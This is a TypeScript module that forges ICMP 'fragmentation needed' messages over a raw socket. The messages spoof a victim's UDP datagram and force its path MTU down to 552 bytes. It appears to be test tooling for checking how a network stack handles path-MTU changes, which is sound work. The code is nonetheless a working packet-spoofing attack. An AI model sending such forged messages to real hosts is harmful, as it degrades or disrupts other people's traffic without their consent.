/**
 * Forged ICMP messages: "fragmentation needed" (RFC 1191) about a datagram of `victim`. A raw socket
 * needs root, at least in its network namespace.
 */
import koffi from 'koffi';

const [AF_INET, SOCK_RAW, IPPROTO_ICMP, IPPROTO_UDP] = [2, 3, 1, 17];
const [UNREACHABLE, FRAGMENTATION_NEEDED] = [3, 4];
const DONT_FRAGMENT = 0x4000;
/** The least that Linux accepts (net.ipv4.route.min_pmtu). */
export const LEAST_PATH_MTU = 552;

/** IPv4 address and UDP port. */
export interface UdpAddress {
  readonly address: string;
  readonly port: number;
}

/** ICMP header, then header and 8 bytes of the datagram from `victim` to `peer`. */
function fragmentationNeeded(victim: UdpAddress, peer: UdpAddress): Buffer {
  const message = Buffer.alloc(8 + 20 + 8);
  message.set([UNREACHABLE, FRAGMENTATION_NEEDED]);
  message.writeUInt16BE(LEAST_PATH_MTU, 6);
  const ip = message.subarray(8, 28);
  ip[0] = 0x45;
  ip.writeUInt16BE(4096 + 60, 2);
  ip.writeUInt16BE(DONT_FRAGMENT, 6);
  ip.set([64, IPPROTO_UDP], 8);
  ip.set(bytesOf(victim.address), 12);
  ip.set(bytesOf(peer.address), 16);
  ip.writeUInt16BE(checksum(ip), 10);
  message.writeUInt16BE(victim.port, 28);
  message.writeUInt16BE(peer.port, 30);
  message.writeUInt16BE(4096 + 40, 32);
  message.writeUInt16BE(checksum(message), 2);
  return message;
}

function bytesOf(address: string): number[] {
  return address.split('.').map(Number);
}

function checksum(bytes: Buffer): number {
  let sum = 0;
  for (let at = 0; at < bytes.length; at += 2) sum += bytes.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

/** Sends `count` of them to `victim`. Throws where there is no raw socket. */
export function forgeFragmentationNeeded(victim: UdpAddress, peer: UdpAddress, count = 1): void {
  const libc = koffi.load('libc.so.6');
  const socket = libc.func('int socket(int, int, int)');
  const sendto = libc.func(
    'int64_t sendto(int, const void *, uint64_t, int, const void *, uint32_t)',
  );
  const close = libc.func('int close(int)');
  const target = Buffer.alloc(16);
  target.writeUInt16LE(AF_INET, 0);
  target.set(bytesOf(victim.address), 4);
  const message = fragmentationNeeded(victim, peer);
  const fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) as number;
  if (fd < 0) throw new Error('forged-icmp: no raw socket: run it as root of a network namespace');
  try {
    for (let index = 0; index < count; index++) {
      const sent = Number(sendto(fd, message, message.length, 0, target, target.length));
      if (sent !== message.length) throw new Error(`forged-icmp: sendto returns ${sent}`);
    }
  } finally {
    close(fd);
  }
}
